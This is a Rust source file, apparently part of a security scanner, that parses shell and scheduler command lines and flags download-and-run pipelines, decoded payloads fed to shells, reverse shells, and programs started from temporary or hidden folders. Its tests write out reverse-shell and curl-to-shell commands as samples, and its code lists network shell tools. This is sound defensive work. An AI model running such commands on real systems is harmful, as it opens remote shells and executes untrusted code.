//! Command lines, as shells and schedulers read them: which programs they start, and what they feed to interpreters.
//!
//! This is no shell: nothing is expanded. It reads words, pipelines, nested commands and what runs other programs.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use super::files::Asked;
use super::line::Place;
use super::reading::Reading;
use crate::text;
use crate::text::Text;
use crate::tree::{EntryKind, TreePath};

/// How deep commands may be nested.
const MAX_DEPTH: usize = 6;

/// How many programs of a command are told.
const MAX_PROGRAMS: usize = 64;

/// A simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Simple {
    /// `NAME=value` before it, or alone.
    pub assignments: Vec<(String, String)>,
    /// Its words, without quotes.
    pub words: Vec<String>,
    /// Where its input comes from, or its output goes to.
    pub redirects: Vec<String>,
    /// What it takes the output of, or runs within parentheses.
    pub nested: Vec<Script>,
}

/// Commands of which each feeds the next.
pub type Pipeline = Vec<Simple>;

/// Pipelines, one after the other.
pub type Script = Vec<Pipeline>;

/// What is worth telling of a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Sign {
    /// It feeds what it downloads to an interpreter.
    RunsDownload,
    /// It feeds what it decodes to an interpreter.
    RunsDecoded,
    /// It opens a connection through the shell, or gives a shell to one.
    ShellConnection,
    /// It starts a program in a folder where everyone may put one.
    TemporaryProgram,
    /// It starts a program in a hidden folder.
    HiddenProgram,
}

impl Sign {
    /// Every sign, with the word by which facts name it.
    pub const NAMES: [(&'static str, Self); 5] = [
        ("runs-download", Self::RunsDownload),
        ("runs-decoded", Self::RunsDecoded),
        ("shell-connection", Self::ShellConnection),
        ("temporary-program", Self::TemporaryProgram),
        ("hidden-program", Self::HiddenProgram),
    ];

    /// Returns what it means, in words.
    #[must_use]
    pub fn words(self) -> &'static str {
        match self {
            Self::RunsDownload => "feeds a download to an interpreter",
            Self::RunsDecoded => "feeds decoded text to an interpreter",
            Self::ShellConnection => "ties a shell to a network connection",
            Self::TemporaryProgram => "starts a program in a folder where everyone may put one",
            Self::HiddenProgram => "starts a program in a hidden folder",
        }
    }
}

/// A program that something starts.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Program {
    /// The path at which it was asked for.
    pub path: TreePath,
    /// What was asked about instead: where it stands, links followed; or, where it is not there, the nearest folder above
    /// it that is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub real: Option<TreePath>,
    /// Whether it is there.
    pub is_there: bool,
}

/// A variable that makes programs load code.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Variable {
    /// Which, and where: `LD_PRELOAD in /etc/environment`.
    pub name: Text,
    /// Its own name.
    pub variable: Text,
    /// Its value.
    pub value: Text,
    /// Where it is set.
    pub place: Place,
}

impl Variable {
    pub(super) fn new(name: &str, value: &str, place: Place) -> Self {
        Self {
            name: text!("{} in /{}", *name, place.path),
            variable: Text::of(name),
            value: Text::of(value).shortened(200),
            place,
        }
    }
}

impl Program {
    /// Looks a program up: by its path, relative to a folder, or by its name in folders.
    pub(super) fn find(
        reading: &Reading<'_>,
        word: &str,
        search: &[TreePath],
        folder: Option<&TreePath>,
        asked: Asked,
    ) -> Option<Self> {
        if word.is_empty() || word.contains(['$', '*', '?', '\n', '\0']) {
            return None;
        }
        if let Some(absolute) = word.strip_prefix('/') {
            let path = TreePath::root().join(absolute.trim_start_matches('/').as_bytes())?;
            return (!path.is_root()).then(|| Self::at(reading, path, asked));
        }
        if word.contains('/') {
            return Some(Self::at(reading, folder?.join(word.as_bytes())?, asked));
        }
        let found = search.iter().filter_map(|folder| {
            let path = folder.child(word.as_bytes());
            let entry = reading.real(&path).ok().flatten()?;
            (entry.kind == EntryKind::File).then_some(path)
        });
        found.map(|path| Self::at(reading, path, asked)).next()
    }

    /// Asks about the program at a path.
    pub(super) fn at(reading: &Reading<'_>, path: TreePath, asked: Asked) -> Self {
        match reading.real(&path) {
            Ok(Some(_)) => Self { real: reading.ask(&path, asked), path, is_there: true },
            Ok(None) => Self { real: nearest(reading, &path), path, is_there: false },
            // It was noted as a gap.
            Err(_) => Self { real: None, path, is_there: false },
        }
    }
}

/// Asks about the nearest folder above a path that is there.
pub(super) fn nearest(reading: &Reading<'_>, path: &TreePath) -> Option<TreePath> {
    path.ancestors().skip(1).find_map(|folder| match reading.real(&folder) {
        Ok(Some(entry)) if entry.kind == EntryKind::Folder => Some(reading.ask(&folder, Asked::State)),
        Ok(_) => None,
        Err(_) => Some(None),
    })?
}

/// Returns the folders of a search path, `/usr/bin:/bin`.
pub(super) fn search_path(text: &str) -> Vec<TreePath> {
    text.split(':')
        .filter_map(|folder| TreePath::root().join(folder.trim().strip_prefix('/')?.as_bytes()))
        .take(MAX_PROGRAMS)
        .collect()
}

/// Whether an environment variable makes other programs load code.
#[must_use]
pub fn is_loading(name: &str) -> bool {
    let known = [
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "PERL5LIB",
        "PERL5OPT",
        "RUBYOPT",
        "RUBYLIB",
        "NODE_OPTIONS",
        "NODE_PATH",
        "BASH_ENV",
        "GCONV_PATH",
        "JAVA_TOOL_OPTIONS",
    ];
    name.starts_with("LD_") || known.contains(&name)
}

/// Returns the last part of a path.
fn base_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

const SHELLS: [&str; 11] = ["sh", "bash", "dash", "ash", "ksh", "mksh", "zsh", "csh", "tcsh", "fish", "rbash"];
const LANGUAGES: [&str; 8] = ["python", "perl", "ruby", "php", "node", "lua", "tclsh", "pypy"];

fn is_shell(word: &str) -> bool {
    SHELLS.contains(&base_name(word))
}

/// Whether it is an interpreter of another language, whatever its version: `python3.11`.
fn is_language(word: &str) -> bool {
    let name = base_name(word).trim_end_matches(|character: char| character.is_ascii_digit() || character == '.');
    LANGUAGES.contains(&name)
}

/// Programs that run the program that their words name: the options that take a value, and how many words stand before it.
const WRAPPERS: [(&str, &str, usize); 24] = [
    ("nice", "n", 0),
    ("ionice", "cnpPu", 0),
    ("nohup", "", 0),
    ("setsid", "", 0),
    ("exec", "a", 0),
    ("command", "", 0),
    ("builtin", "", 0),
    ("time", "fo", 0),
    ("sudo", "ugpCThDRtrU", 0),
    ("doas", "uC", 0),
    ("runuser", "ugGsw", 0),
    ("timeout", "ks", 1),
    ("flock", "wEF", 1),
    ("stdbuf", "ioe", 0),
    ("chroot", "", 1),
    ("systemd-cat", "tpu", 0),
    ("systemd-inhibit", "", 0),
    ("setpriv", "", 0),
    ("chronic", "", 0),
    ("cronic", "", 0),
    ("unbuffer", "", 0),
    ("xargs", "IiLlnPsdE", 0),
    ("chrt", "TPD", 1),
    ("taskset", "", 1),
];

/// Returns the programs that a script starts, as it names them, and the folder in which it does.
#[must_use]
pub fn programs(script: &Script) -> Vec<(String, Option<String>)> {
    let mut out = Vec::new();
    let mut folder = None;
    of_script(script, &mut folder, 0, &mut out);
    out
}

type Started = Vec<(String, Option<String>)>;

fn of_script(script: &Script, folder: &mut Option<String>, depth: usize, out: &mut Started) {
    for simple in script.iter().flatten() {
        of_words(&simple.words, folder, depth, out);
        if depth < MAX_DEPTH {
            simple.nested.iter().for_each(|nested| of_script(nested, &mut folder.clone(), depth + 1, out));
        }
    }
}

/// Returns the programs that the words of a command start.
#[must_use]
pub fn programs_of_words(words: &[String]) -> Vec<(String, Option<String>)> {
    let mut out = Vec::new();
    of_words(words, &mut None, 0, &mut out);
    out
}

fn of_words(words: &[String], folder: &mut Option<String>, depth: usize, out: &mut Started) {
    let mut rest = words;
    // Each turn takes a word at least.
    while let [program, arguments @ ..] = rest {
        if out.len() >= MAX_PROGRAMS {
            return;
        }
        let name = base_name(program);
        if name == "cd" {
            *folder = arguments.iter().find(|word| !word.starts_with('-')).cloned();
            return;
        }
        if !matches!(name, "." | "source" | "eval" | "[" | "test" | "echo" | "exit" | "set" | "export" | "trap") {
            out.push((program.clone(), folder.clone()));
        }
        match name {
            "." | "source" => {
                out.extend(arguments.first().map(|file| (file.clone(), folder.clone())));
                return;
            }
            "eval" => {
                if depth < MAX_DEPTH {
                    of_script(&script(&arguments.join(" ")), folder, depth + 1, out);
                }
                return;
            }
            "env" => rest = behind_env(arguments),
            "su" | "flock" if script_option(arguments).is_some() => {
                of_inner(script_option(arguments), folder, depth, out);
                return;
            }
            _ if is_shell(program) => {
                match script_option(arguments) {
                    Some(inner) => of_inner(Some(inner), folder, depth, out),
                    None => out.extend(operand(arguments, "oO").map(|file| (file.to_owned(), folder.clone()))),
                }
                return;
            }
            _ if is_language(program) => {
                let is_inline = arguments
                    .iter()
                    .take_while(|word| word.starts_with('-'))
                    .any(|word| matches!(word.as_str(), "-c" | "-m" | "-e" | "-E" | "-r"));
                if !is_inline {
                    out.extend(operand(arguments, "WXI").map(|file| (file.to_owned(), folder.clone())));
                }
                return;
            }
            "start-stop-daemon" => {
                let named = arguments.windows(2).find_map(|pair| match pair {
                    [option, value] if matches!(option.as_str(), "--exec" | "-x" | "--startas" | "-a") => Some(value),
                    _ => None,
                });
                out.extend(named.map(|file| (file.clone(), folder.clone())));
                return;
            }
            _ => match WRAPPERS.iter().find(|(wrapper, ..)| *wrapper == name) {
                Some((_, options, before)) => {
                    rest = behind_options(arguments, options).get(*before..).unwrap_or_default()
                }
                None => return,
            },
        }
    }
}

fn of_inner(inner: Option<&String>, folder: &mut Option<String>, depth: usize, out: &mut Started) {
    if let Some(inner) = inner.filter(|_| depth < MAX_DEPTH) {
        of_script(&script(inner), folder, depth + 1, out);
    }
}

/// Returns the script behind `-c`, or behind options such as `-lc`.
fn script_option(arguments: &[String]) -> Option<&String> {
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        if word == "-c" || word == "--command" {
            return words.next();
        }
        let flags = word.strip_prefix('-').filter(|flags| !flags.starts_with('-'));
        if flags.is_some_and(|flags| flags.ends_with('c') && flags.chars().all(char::is_alphabetic)) {
            return words.next();
        }
    }
    None
}

/// Returns the first word that is no option. Options of these letters take a value.
fn operand<'a>(arguments: &'a [String], with_value: &str) -> Option<&'a str> {
    behind_options(arguments, with_value).first().map(String::as_str)
}

fn behind_options<'a>(mut words: &'a [String], with_value: &str) -> &'a [String] {
    while let [word, rest @ ..] = words {
        if word == "--" {
            return rest;
        }
        let Some(flags) = word.strip_prefix('-').filter(|flags| !flags.is_empty()) else { return words };
        let takes_next = !flags.starts_with('-')
            && flags.chars().count() == 1
            && flags.chars().all(|flag| with_value.contains(flag));
        words = if takes_next { rest.get(1..).unwrap_or_default() } else { rest };
    }
    words
}

fn behind_env(arguments: &[String]) -> &[String] {
    let mut words = behind_options(arguments, "uCS");
    while let [word, rest @ ..] = words {
        if !word.contains('=') {
            break;
        }
        words = rest;
    }
    words
}

/// Returns what is worth telling of a script.
#[must_use]
pub fn signs(script: &Script) -> BTreeSet<Sign> {
    let mut out = BTreeSet::new();
    signs_of(script, 0, &mut out);
    for (program, folder) in programs(script) {
        let path = match (&folder, program.starts_with('/')) {
            (Some(folder), false) if program.contains('/') => format!("{folder}/{program}"),
            _ => program,
        };
        if ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/"].iter().any(|folder| path.starts_with(folder))
        {
            out.insert(Sign::TemporaryProgram);
        }
        let hidden = |part: &str| part.starts_with('.') && part.chars().any(|character| character != '.');
        if path.starts_with('/') && path.split('/').any(hidden) {
            out.insert(Sign::HiddenProgram);
        }
    }
    out
}

fn signs_of(script: &Script, depth: usize, out: &mut BTreeSet<Sign>) {
    if depth > MAX_DEPTH {
        return;
    }
    for pipeline in script {
        let mut fed = BTreeSet::new();
        for simple in pipeline {
            let bare = bare(&simple.words);
            let name = bare.first().map(|word| base_name(word)).unwrap_or_default();
            if reads_code(bare) {
                out.extend(&fed);
            }
            let inner: Vec<Script> = match script_option(bare.get(1..).unwrap_or_default()) {
                Some(inner) if is_shell(name) || name == "su" => vec![self::script(inner)],
                _ if name == "eval" => vec![self::script(&bare.get(1..).unwrap_or_default().join(" "))],
                _ => Vec::new(),
            };
            for inner in &inner {
                signs_of(inner, depth + 1, out);
            }
            for nested in &simple.nested {
                signs_of(nested, depth + 1, out);
                let made = made(nested, depth + 1);
                if is_shell(name) || is_language(name) || matches!(name, "eval" | "." | "source") {
                    out.extend(&made);
                }
                fed.extend(made);
            }
            fed.extend(made_by(bare));
            let opens = |text: &String| text.contains("/dev/tcp/") || text.contains("/dev/udp/");
            if simple.redirects.iter().chain(&simple.words).any(opens) || gives_shell(bare) {
                out.insert(Sign::ShellConnection);
            }
        }
    }
}

/// What a script makes that should not be run.
fn made(script: &Script, depth: usize) -> BTreeSet<Sign> {
    let mut out = BTreeSet::new();
    for simple in script.iter().flatten() {
        out.extend(made_by(bare(&simple.words)));
        if depth < MAX_DEPTH {
            simple.nested.iter().for_each(|nested| out.extend(made(nested, depth + 1)));
        }
    }
    out
}

fn made_by(words: &[String]) -> Option<Sign> {
    let [program, arguments @ ..] = words else { return None };
    let has = |options: &[&str]| arguments.iter().any(|word| options.contains(&word.as_str()));
    match base_name(program) {
        "curl" | "wget" | "fetch" | "aria2c" | "lwp-request" | "GET" | "lynx" | "ftp" | "tftp" => {
            Some(Sign::RunsDownload)
        }
        "base64" | "base32" | "basenc" if has(&["-d", "--decode", "-D", "-di", "-id"]) => Some(Sign::RunsDecoded),
        "xxd" if arguments.iter().any(|word| word.starts_with("-r") || word == "-pr") => Some(Sign::RunsDecoded),
        "openssl" if has(&["-d"]) => Some(Sign::RunsDecoded),
        _ => None,
    }
}

/// Returns the words of the program itself, behind what only runs it.
fn bare(mut words: &[String]) -> &[String] {
    while let [program, arguments @ ..] = words {
        let name = base_name(program);
        if name == "env" {
            words = behind_env(arguments);
        } else if let Some((_, options, before)) = WRAPPERS.iter().find(|(wrapper, ..)| *wrapper == name) {
            if name == "flock" && script_option(arguments).is_some() {
                return words;
            }
            words = behind_options(arguments, options).get(*before..).unwrap_or_default();
        } else {
            return words;
        }
    }
    words
}

/// Whether a command takes its program from its input.
fn reads_code(words: &[String]) -> bool {
    let [program, arguments @ ..] = words else { return false };
    let first = arguments.iter().find(|word| !word.starts_with('-') || word.as_str() == "-");
    if is_shell(program) {
        let says_input = arguments
            .iter()
            .any(|word| word.strip_prefix('-').is_some_and(|flags| !flags.starts_with('-') && flags.contains('s')));
        return script_option(arguments).is_none()
            && (says_input || first.is_none_or(|word| word == "-" || word == "/dev/stdin"));
    }
    let is_inline =
        arguments.iter().any(|word| matches!(word.as_str(), "-c" | "-m" | "-e" | "-E" | "-r" | "-n" | "-p"));
    is_language(program) && !is_inline && first.is_none_or(|word| word == "-" || word == "/dev/stdin")
}

/// Whether a command gives a shell to a connection.
fn gives_shell(words: &[String]) -> bool {
    let [program, arguments @ ..] = words else { return false };
    match base_name(program) {
        "nc" | "ncat" | "netcat" | "nc.traditional" => arguments.iter().any(|word| {
            matches!(word.as_str(), "--exec" | "--sh-exec" | "-c")
                || word.strip_prefix('-').is_some_and(|flags| !flags.starts_with('-') && flags.ends_with('e'))
        }),
        "socat" => arguments.iter().any(|word| {
            let word = word.to_ascii_lowercase();
            word.starts_with("exec:") || word.starts_with("system:")
        }),
        _ => false,
    }
}

/// Reads a script of a shell.
#[must_use]
pub fn script(text: &str) -> Script {
    Shell { bytes: text.as_bytes(), at: 0 }.list(None, 0)
}

struct Shell<'a> {
    bytes: &'a [u8],
    at: usize,
}

/// Words that only hold other commands together.
const KEYWORDS: [&str; 12] = ["if", "then", "elif", "else", "fi", "while", "until", "do", "done", "!", "{", "}"];

impl Shell<'_> {
    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.at).copied()
    }

    fn next(&mut self) -> Option<u8> {
        let byte = self.peek()?;
        self.at += 1;
        Some(byte)
    }

    fn is_next(&self, byte: u8) -> bool {
        self.peek() == Some(byte)
    }

    /// Reads pipelines up to a byte, or to the end.
    fn list(&mut self, end: Option<u8>, depth: usize) -> Script {
        let mut out = Script::new();
        let mut pipeline = Pipeline::new();
        let mut simple = Simple::default();
        let close = |simple: &mut Simple, pipeline: &mut Pipeline| {
            if *simple != Simple::default() {
                pipeline.push(std::mem::take(simple));
            }
        };
        while let Some(byte) = self.peek() {
            if Some(byte) == end {
                self.at += 1;
                break;
            }
            match byte {
                b' ' | b'\t' | b'\r' => self.at += 1,
                b'#' => {
                    while self.peek().is_some_and(|byte| byte != b'\n') {
                        self.at += 1
                    }
                }
                b'\n' | b';' | b')' => {
                    self.at += 1;
                    close(&mut simple, &mut pipeline);
                    out.extend(take(&mut pipeline));
                }
                b'&' if self.bytes.get(self.at + 1) == Some(&b'>') => self.at += 1,
                b'&' => {
                    self.at += 1;
                    close(&mut simple, &mut pipeline);
                    out.extend(take(&mut pipeline));
                }
                b'|' => {
                    self.at += 1;
                    close(&mut simple, &mut pipeline);
                    if self.is_next(b'|') {
                        self.at += 1;
                        out.extend(take(&mut pipeline));
                    } else if self.is_next(b'&') {
                        self.at += 1;
                    }
                }
                b'(' => {
                    self.at += 1;
                    self.nest(b')', depth, &mut simple);
                }
                b'<' | b'>' => self.redirect(depth, &mut simple),
                _ => {
                    let word = self.word(end, depth, &mut simple);
                    self.add(word, &mut simple);
                }
            }
        }
        close(&mut simple, &mut pipeline);
        out.extend(take(&mut pipeline));
        out
    }

    fn add(&self, word: String, simple: &mut Simple) {
        // A number before `>` is no word.
        let is_channel = matches!(self.peek(), Some(b'<' | b'>')) && word.bytes().all(|byte| byte.is_ascii_digit());
        let is_first = simple.words.is_empty();
        if is_channel || (is_first && KEYWORDS.contains(&word.as_str())) {
            return;
        }
        match assignment(&word) {
            Some((name, value)) if is_first => simple.assignments.push((name.to_owned(), value.to_owned())),
            _ => simple.words.push(word),
        }
    }

    fn nest(&mut self, end: u8, depth: usize, simple: &mut Simple) {
        if depth < MAX_DEPTH {
            let nested = self.list(Some(end), depth + 1);
            simple.nested.push(nested);
        } else {
            while self.next().is_some_and(|byte| byte != end) {}
        }
    }

    fn redirect(&mut self, depth: usize, simple: &mut Simple) {
        while matches!(self.peek(), Some(b'<' | b'>' | b'&' | b'|')) {
            self.at += 1;
        }
        if self.is_next(b'(') {
            self.at += 1;
            return self.nest(b')', depth, simple);
        }
        while matches!(self.peek(), Some(b' ' | b'\t')) {
            self.at += 1;
        }
        if !matches!(self.peek(), None | Some(b'\n' | b';' | b'|' | b'<' | b'>')) {
            let word = self.word(None, depth, simple);
            simple.redirects.push(word);
        }
    }

    /// Reads a word. It takes a byte at least.
    fn word(&mut self, end: Option<u8>, depth: usize, simple: &mut Simple) -> String {
        let mut out = Vec::new();
        let mut is_quoted = false;
        let mut is_first = true;
        while let Some(byte) = self.peek() {
            if !is_quoted && !is_first && (Some(byte) == end || b" \t\r\n;&|()<>".contains(&byte)) {
                break;
            }
            is_first = false;
            self.at += 1;
            match byte {
                b'\\' => match self.next() {
                    Some(b'\n') | None => {}
                    Some(escaped) if is_quoted && !b"\"\\$`".contains(&escaped) => out.extend([b'\\', escaped]),
                    Some(escaped) => out.push(escaped),
                },
                b'"' => is_quoted = !is_quoted,
                b'\'' if !is_quoted => {
                    while let Some(byte) = self.next().filter(|byte| *byte != b'\'') {
                        out.push(byte)
                    }
                }
                b'`' => {
                    self.nest(b'`', depth, simple);
                    out.push(b'$');
                }
                b'$' if self.is_next(b'(') => {
                    self.at += 1;
                    self.nest(b')', depth, simple);
                    out.push(b'$');
                }
                b'$' if self.is_next(b'{') => {
                    out.push(b'$');
                    while let Some(byte) = self.next() {
                        out.push(byte);
                        if byte == b'}' {
                            break;
                        }
                    }
                }
                byte => out.push(byte),
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }
}

fn take(pipeline: &mut Pipeline) -> Option<Pipeline> {
    (!pipeline.is_empty()).then(|| std::mem::take(pipeline))
}

/// Returns name and value of `NAME=value`.
#[must_use]
pub fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let is_name = name.chars().all(|character| character.is_ascii_alphanumeric() || character == '_')
        && name.chars().next().is_some_and(|first| !first.is_ascii_digit());
    is_name.then_some((name, value))
}

/// Returns a command as it is told: without passwords in it, and not too long.
pub(super) fn told(command: &str) -> Text {
    Text::of(&*text::without_credentials(command)).shortened(200)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_are_found() {
        let check = |text: &str, expected: &[&str]| {
            let found: Vec<String> = programs(&script(text)).into_iter().map(|(program, _)| program).collect();
            assert_eq!(found, expected, "{text:?}");
        };
        check("", &[]);
        check("/opt/scripts/clean.sh >/dev/null 2>&1", &["/opt/scripts/clean.sh"]);
        check("cd /opt && ./run.sh -x", &["./run.sh"]);
        check("/bin/sh /opt/x.sh /opt/argument", &["/bin/sh", "/opt/x.sh"]);
        check("bash -lc '/opt/a; exec /opt/b'", &["bash", "/opt/a", "exec", "/opt/b"]);
        check("/usr/bin/env -i A=b python3 -u /opt/x.py", &["/usr/bin/env", "python3", "/opt/x.py"]);
        check("python3 -m http.server", &["python3"]);
        check("nice -n 19 ionice -c3 /opt/x", &["nice", "ionice", "/opt/x"]);
        check("flock -n /run/lock /opt/x", &["flock", "/opt/x"]);
        check("timeout 10 /opt/x", &["timeout", "/opt/x"]);
        check("test -x /usr/sbin/a || { /opt/b; }", &["/opt/b"]);
        check("[ -d /x ] && A=1 /opt/b $(/opt/c)", &["/opt/b", "/opt/c"]);
        check("# /opt/x\n/opt/y", &["/opt/y"]);
        check("/opt/x '/opt/y", &["/opt/x"]);
    }

    #[test]
    fn signs_are_told_apart() {
        let check = |text: &str, expected: &[Sign]| {
            let found: Vec<Sign> = signs(&script(text)).into_iter().collect();
            assert_eq!(found, expected, "{text:?}");
        };
        check("curl -fsS https://host.example/x | sh", &[Sign::RunsDownload]);
        check("curl 'https://host.example/x?a=1&b=2' 2>/dev/null | tee /x | sudo bash -s -- -a", &[Sign::RunsDownload]);
        check("wget -qO- https://host.example | python3 -", &[Sign::RunsDownload]);
        check("bash -c \"$(curl -fsSL https://host.example)\"", &[Sign::RunsDownload]);
        check("bash <(curl https://host.example)", &[Sign::RunsDownload]);
        check("sh -c 'curl https://host.example|sh'", &[Sign::RunsDownload]);
        check("eval \"$(wget -qO- https://host.example)\"", &[Sign::RunsDownload]);
        check("curl -fsS https://host.example/ping >/dev/null", &[]);
        check("curl https://host.example | grep sh", &[]);
        check("curl https://host.example | python3 -m json.tool", &[]);
        check("curl https://host.example || sh /opt/alarm.sh", &[]);
        check("curl https://host.example; sh", &[]);
        check("echo aGk= | base64 -d | bash", &[Sign::RunsDecoded]);
        check("base64 -d /srv/a > /srv/b", &[]);
        check("base64 /srv/a | sh", &[]);
        check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", &[Sign::ShellConnection]);
        check("nc -e /bin/sh 192.0.2.1 4444", &[Sign::ShellConnection]);
        check("nc -z 192.0.2.1 22", &[]);
        check("/tmp/x", &[Sign::TemporaryProgram]);
        check("sh /dev/shm/x", &[Sign::TemporaryProgram]);
        check("cd /tmp && ./x", &[Sign::TemporaryProgram]);
        check("find /tmp -mtime +7 -delete", &[]);
        check("/usr/lib/.x/y", &[Sign::HiddenProgram]);
        check("/opt/../usr/bin/x /srv/.cache", &[]);
        check("echo '* | sh'", &[]);
    }
}
